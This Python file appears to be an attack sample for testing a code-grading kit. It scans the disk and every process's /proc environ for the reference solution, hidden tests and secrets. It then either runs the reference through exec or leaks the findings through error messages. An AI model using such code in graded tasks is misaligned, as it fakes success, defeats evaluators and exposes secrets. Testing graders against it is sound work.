"""Attack class 4: read the reference and the hidden tests from disk, and leak them.

Walks the file system (and /proc) for the kit's reference, hidden suite, report and seed; runs
the reference if found (delegation); otherwise puts whatever it found into failure messages,
where a candidate would read it after grading.
"""

import os

FOUND = {}
MARKERS = ("reference", "suites", "hidden", "test_hidden", "report.jsonl", "kata-seed")


def _scan(top, depth):
    try:
        entries = list(os.scandir(top))
    except OSError:
        return
    for entry in entries:
        if any(m in entry.path for m in MARKERS) and entry.is_file(follow_symlinks=False):
            try:
                with open(entry.path, errors="replace") as fh:
                    FOUND[entry.path] = fh.read(4000)
            except OSError:
                pass
        if (
            depth
            and entry.is_dir(follow_symlinks=False)
            and not entry.path.startswith(("/proc", "/sys", "/dev"))
        ):
            _scan(entry.path, depth - 1)


_scan("/", 7)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as fh:
                    FOUND[f"/proc/{pid}/{name}"] = fh.read(4000).decode(errors="replace")
            except OSError:
                pass
REFERENCE = next(
    (text for path, text in FOUND.items() if path.endswith("reference/toy/toy.py")), None
)
if REFERENCE:
    exec(REFERENCE)  # noqa: S102 - delegation to the reference
else:

    def add(a, b):
        raise RuntimeError("LEAK " + repr(FOUND)[:3000])

    def total(xs):
        raise RuntimeError("LEAK " + repr(sorted(FOUND))[:3000])
